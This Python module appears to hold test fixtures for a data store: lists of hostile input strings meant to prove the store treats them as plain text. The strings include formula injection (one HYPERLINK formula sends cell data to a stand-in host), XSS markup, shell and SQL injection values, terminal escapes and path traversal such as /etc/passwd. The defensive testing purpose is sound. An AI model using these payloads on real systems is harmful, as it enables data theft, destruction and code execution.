# SPDX-License-Identifier: GPL-3.0-or-later
"""The hostile strings, in one place. Each comes into the store as a name, a
section, an assessment, a note … and has to leave it as text. `touch canary`
stands wherever something could run: no file of that name may come to be."""

FORMULAS = [
    "=1+1", "+1+cmd", "-1+cmd", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "\0=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1", "'=1+1",
    "''", "\"=1+1\"", '"', '=HYPERLINK("http://evil.example/?x="&A1,"A")',
    "=cmd|'/C touch canary'!A0", '=WEBSERVICE("http://evil.example")',
    "{=1+1}", "%=1+1", "x\n=1+1", "\ufeff=1+1", " =1+1", "-5 points",
]
MARKUP = [
    "<script>alert(1)</script>", "</style><script>alert(2)</script>",
    "</title><img src=x onerror=alert(3)>", '" onmouseover="alert(4)" x="',
    "' onfocus=alert(5) autofocus='", "<img src=x onerror=alert(6)>",
    "<svg/onload=alert(7)>", "<a href=javascript:alert(8)>x</a>",
    "<iframe src=//evil.example></iframe>", "<!-- ", "-->", "<![CDATA[", "]]>",
    "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///e'>]>",
    "&e;", "&lt;script&gt;", "&#60;b&#62;", "&#x3C;b&#x3E;", "&amp;amp;",
    "<foreignObject><b>x</b></foreignObject>", "<text>x</text>",
    "</text></svg><script>alert(9)</script>", "</p></td></tr></table><h1>x",
    "<style>*{display:none}</style>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "\ud7ff\ufffe\uffff<b>",
]
MARKDOWN = [
    "[x](javascript:alert(10))", "![x](http://evil.example/x.png)",
    "<http://evil.example>", "http://evil.example/", "www.evil.example",
    "mail@evil.example", "a|b|c", "\\", "\\|", "# Heading", "Heading\n===",
    "- list", "1. list", "> quotation", "---", "***bold***", "__bold__",
    "~~gone~~", "`code`", "``", "```", "```cohort id=x", "~~~", "\n\n```\n",
    "[^1]", "[^1]: note", "[x]: http://evil.example 'x'", "[x]", "[ ] task",
    "<div>\n\n**x**\n\n</div>", "a  \nb", "&nbsp;", "| a |\n|---|\n| b |",
    "{{word}}", "{{x:mean}}", "{{why x | y | z}}", "{name}", "{student_id}",
    "--- \ntitle: x\n---", ":smile:", "$$x$$", "*", "_", "|", "#", "\x0c",
]
PROGRAMS = [
    "`touch canary`", "$(touch canary)", "; touch canary #", "| touch canary",
    "&& touch canary", "x' ; touch canary ; '", 'x" ; touch canary ; "',
    "x'\n!touch canary\nplot 'x", "x\nsystem('touch canary')\n", "\\\n",
    "< touch canary", "|touch canary", "system('touch canary')",
    "x\"; system \"touch canary", "@canary", "$DATA << E\nE\n", "E", "e",
    "{/Symbol x}", "a_{b}^{c}", "@{x}~{y}", "%n%n%n%s", "%d%x$n", "%1$s",
    "$HOME", "${IFS}", "~", "'; DROP TABLE student; --", "1 OR 1=1",
    '" UNION SELECT 1 --', "load_extension('x')", "%", "a;b", "a,b", "a\tb",
]
TERMINAL = [
    "\x1b[31mred", "\x1b]0;title\x07", "\x1b[2J", "\x9b31m", "\u009b31m",
    "\x07", "\x08\x08\x08", "a\rb", "\x7f", "\u202egnp.exe", "\u2066x\u2069",
    "\u200b", "\u2028x", "\u0085x", "\x01\x02\x03", "a\0b",
]
PATHS = [
    "../../canary", "/etc/passwd", "-o", "--output=canary", "--", "-", ".",
    "..", "C:\\canary", "\\\\evil.example\\x", "file:///etc/passwd",
    "http://evil.example/x.csv", "a/../b", "CON", "\u2215..\u2215", "a b",
]
JSON = ['"}', '{"a":1}', "\\u0000", "\\", "null", "[1,2", "\u2029", "__proto__"]

ALL = list(dict.fromkeys(
    FORMULAS + MARKUP + MARKDOWN + PROGRAMS + TERMINAL + PATHS + JSON))
# What UTF-8 cannot hold is not a test of what text becomes.
ALL = [s.encode("utf-8", "replace").decode() for s in ALL]


def plain(i):
    """A harmless text in the place of string number i."""
    return f"Plain{i}"
